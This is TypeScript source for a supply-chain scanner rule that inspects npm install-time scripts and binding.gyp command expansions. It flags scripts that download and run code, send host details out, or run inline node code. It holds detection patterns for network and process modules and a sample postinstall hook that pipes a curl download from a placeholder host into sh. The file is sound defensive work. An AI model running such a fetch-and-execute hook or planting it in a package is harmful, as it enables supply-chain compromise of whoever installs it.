import { defineRule } from '../src/engine/api.js';
import { SHELL_DOWNLOAD, SHELL_FETCH, SHELL_RECON } from '../src/engine/indicators.js';

/** Install-time helpers that are common and honest: building or fetching a native addon. */
const KNOWN_BUILD_TOOLS = /^(?:node-gyp(?:-build)?|prebuild-install|node-pre-gyp|@mapbox\/node-pre-gyp|napi-postinstall|cmake-js|husky|patch-package|opencollective(?:-postinstall)?|is-ci|ngcc|tsc|node-gyp-build-optional-packages)\b/;

/**
 * `node -e` / `node -p` inside a binding.gyp expansion: addons print their header folder with it
 * (`<!(node -e "require('nan')")`). It is a payload only when its code reaches out or decodes.
 */
const NODE_INLINE = /\bnode\s+-[ep]\b/;
const INLINE_ACTS = /https?:|require\(\\?['"](?:node:)?(?:https?|net|tls|dns|dgram|child_process)\b|\bfetch\b|\brequest\b|child_process|\bexec|\bspawn|\beval\b|Function|Buffer|fromCharCode|\\x[0-9a-f]{2}|writeFile|\bnet\b|\bdns\b/i;

/**
 * node-gyp command expansions `<!(…)` / `<!@(…)`, each read to its balanced closing parenthesis
 * (`<!(node -e "require('nan')")` is one), or 400 characters when it never closes.
 */
export function gypExpansions(gyp: string): string[] {
  const out: string[] = [];
  for (let i = gyp.indexOf('<!'); i !== -1 && out.length < 200; i = gyp.indexOf('<!', i + 2)) {
    const open = gyp.indexOf('(', i);
    if (open === -1 || open > i + 3) continue;
    let depth = 0;
    let end = Math.min(gyp.length, open + 400);
    for (let j = open; j < end; j++) {
      if (gyp[j] === '(') depth++;
      else if (gyp[j] === ')' && --depth === 0) {
        end = j + 1;
        break;
      }
    }
    out.push(gyp.slice(i, end));
  }
  return out;
}

/**
 * `node -e "require('nan')"` and `node -p "require('node-addon-api').include"`: the inline code
 * only loads a module to print where its headers are, the way every nan and node-addon-api build
 * finds them. Other inline code that does not reach out is worth reading (medium), not a payload.
 */
const MODULE_LOOKUP = /\bnode\s+-[ep]\s+\\?(["'])\s*(?:console\.log\(\s*)?require(?:\.resolve)?\(\s*\\?(["'])(?!\.)[@\w./-]{1,214}\\?\2\s*\)(?:\.[A-Za-z_$][\w$]{0,40}){0,4}\s*\)?\s*;?\s*\\?\1/;

function isModuleLookup(expansion: string): boolean {
  return MODULE_LOOKUP.test(expansion);
}

export default defineRule({
  meta: {
    id: 'install-scripts',
    title: 'Install-time scripts',
    description:
      'Reports lifecycle scripts that npm runs on install (preinstall, install, postinstall; prepare for git and folder dependencies) and what they run. Shell downloads piped to a shell, encoded PowerShell and inline `node -e` code are raised; node-gyp command expansion in binding.gyp is treated the same way, since node-gyp runs it implicitly.',
    severity: 'low',
    category: 'install',
    references: ['https://docs.npmjs.com/cli/using-npm/scripts#life-cycle-scripts', 'https://github.com/nodejs/node-gyp#the-bindinggyp-file'],
    docs: {
      example: '"scripts": { "postinstall": "curl -s https://example.invalid/x.sh | sh" }',
      suppress: 'Allow the exact package version in tollgate.config.json, or turn the rule off with `"rules": { "install-scripts": "off" }`.',
    },
  },
  create(ctx) {
    return {
      package() {
        const all = [...ctx.scripts.install, ...ctx.scripts.uninstall];
        for (const s of all) {
          const cmd = s.command;
          const file = 'package.json';
          const evidence = `"${s.script}": ${JSON.stringify(cmd).slice(0, 200)}`;
          if (SHELL_DOWNLOAD.test(cmd)) {
            ctx.report({ file, message: `${s.script} script downloads code and runs it in a shell`, severity: 'critical', evidence, signals: ['install-script', 'install-shell-download'] });
            continue;
          }
          if (SHELL_FETCH.test(cmd) && SHELL_RECON.test(cmd)) {
            ctx.report({ file, message: `${s.script} script collects host details and sends them over the network`, severity: 'critical', evidence, signals: ['install-script', 'exec:shell-recon'] });
            continue;
          }
          if (SHELL_FETCH.test(cmd)) {
            ctx.report({ file, message: `${s.script} script contacts the network from the shell`, severity: 'high', evidence, signals: ['install-script', 'sink:network'] });
            continue;
          }
          if (s.inlineCode.length) {
            ctx.report({ file, message: `${s.script} script runs inline JavaScript with node -e (analyzed as ${'package.json#scripts.' + s.script})`, severity: 'medium', evidence, signals: ['install-script', 'install-inline-code'] });
            continue;
          }
          const first = cmd.trim();
          const known = KNOWN_BUILD_TOOLS.test(first);
          ctx.report({
            file,
            message: s.nodeFiles.length
              ? `${s.script} script runs ${s.nodeFiles.join(', ')} on every install`
              : `${s.script} script runs on every install: ${first.slice(0, 80)}`,
            severity: known ? 'info' : 'low',
            evidence,
            signals: known ? ['native-build'] : ['install-script'],
          });
          for (const f of s.nodeFiles) {
            if (f !== '.' && !ctx.files.has(f) && !ctx.files.has(f + '.js') && !ctx.files.has(f + '/index.js')) {
              ctx.report({ file, message: `${s.script} script runs ${f}, which is not in the package (fetched or written at install time?)`, severity: 'medium', evidence, signals: ['install-script'] });
            }
          }
        }
        for (const s of all) {
          for (const sh of s.shellFiles) {
            const text = ctx.textOf(sh);
            if (text && (SHELL_DOWNLOAD.test(text) || (SHELL_FETCH.test(text) && SHELL_RECON.test(text)))) {
              ctx.report({ file: sh, message: `shell script run by ${s.script} downloads code or sends host details over the network`, severity: 'critical', evidence: (text.match(SHELL_DOWNLOAD) ?? text.match(SHELL_FETCH))?.[0]?.slice(0, 200), signals: ['install-script', 'install-shell-download'] });
            }
          }
        }
        const hasInstall = ctx.scripts.install.some((s) => s.script === 'install' || s.script === 'preinstall');
        const gyp = ctx.textOf('binding.gyp');
        if (gyp !== undefined) {
          const expansions = gypExpansions(gyp);
          const bad = expansions.find((e) => SHELL_DOWNLOAD.test(e) || SHELL_FETCH.test(e) || /\beval\b|base64/.test(e) || (NODE_INLINE.test(e) && INLINE_ACTS.test(e)));
          const inline = expansions.find((e) => NODE_INLINE.test(e) && !isModuleLookup(e));
          if (bad) {
            ctx.report({ file: 'binding.gyp', message: 'binding.gyp command expansion runs a network or shell command when node-gyp builds the package', severity: 'critical', evidence: bad.slice(0, 200), signals: ['install-script', 'install-shell-download'] });
          } else if (inline) {
            ctx.report({ file: 'binding.gyp', message: 'binding.gyp command expansion runs inline code (other than a module path lookup) when node-gyp builds the package', severity: 'medium', evidence: inline.slice(0, 200), signals: ['install-script', 'install-inline-code'] });
          } else if (!hasInstall) {
            ctx.report({ file: 'binding.gyp', message: 'binding.gyp present: npm runs `node-gyp rebuild` on install (native build)', severity: 'info', evidence: expansions[0]?.slice(0, 200), signals: ['native-build'] });
          }
        } else if (ctx.manifest?.gypfile && !hasInstall) {
          ctx.report({ file: 'package.json', message: '"gypfile": true makes npm run node-gyp on install, but there is no binding.gyp', severity: 'low', signals: ['install-script'] });
        }
      },
    };
  },
});
